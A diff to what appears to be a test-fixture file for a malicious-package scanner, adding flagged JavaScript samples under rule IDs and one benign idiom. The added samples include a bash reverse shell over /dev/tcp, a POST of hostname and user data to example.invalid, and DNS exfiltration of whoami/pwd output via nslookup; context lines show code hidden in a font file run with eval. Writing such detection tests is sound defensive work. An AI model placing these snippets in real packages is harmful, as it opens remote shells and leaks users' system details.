@@ -98,6 +98,18 @@ HANDING = (
         address.search = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username });
         fetch(address);
     """, SETUP),
+    Case("one of two programs, each with its own arguments", "SHELL-001", HIGH, r"""
+        const windows = process.platform === "win32";
+        require("child_process").spawnSync(windows ? "cmd" : "bash", windows ? ["/c", "ver"] : ["-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"], { stdio: "ignore" });
+    """, SETUP),
+    Case("who somebody is, in a file meanwhile", "EXFIL-001", HIGH, r"""
+        const fs = require("fs"), os = require("os");
+        fs.writeFileSync("/tmp/a.json", JSON.stringify({ h: os.hostname(), u: os.userInfo() }));
+        fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync("/tmp/a.json") });
+    """, SETUP),
+    Case("lines of what commands tell are looked up one by one", "EXFIL-001", HIGH, r"""
+        require("child_process").exec("a=$(hostname;pwd;whoami) && echo $a | xxd -p | head | while read part;do nslookup $part.example.invalid;done");
+    """, SETUP),
     Case("code in a font of the package", "ENC-001", HIGH, r"""
         const fs = require("fs"), path = require("path");
         const read = (name) => (0, eval)(fs.readFileSync(path.join(__dirname, "assets", name)).slice(4).toString("utf8"));
@@ -140,6 +152,10 @@ GOOD_HANDING = (
         const fs = require("fs"), path = require("path");
         exports.font = (response) => response.end(fs.readFileSync(path.join(__dirname, "assets", "icons.woff2")).slice(4));
     """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
+    Idiom("a program of one of two systems shows a page", r"""
+        const { spawn } = require("child_process");
+        exports.show = (url) => spawn(process.platform === "win32" ? "cmd" : "xdg-open", process.platform === "win32" ? ["/c", "start", url] : [url], { detached: true });
+    """),
     Idiom("a version is asked for with parameters", r"""
         const address = new URL("https://example.invalid/versions");
         address.searchParams.set("version", require("./package.json").version);
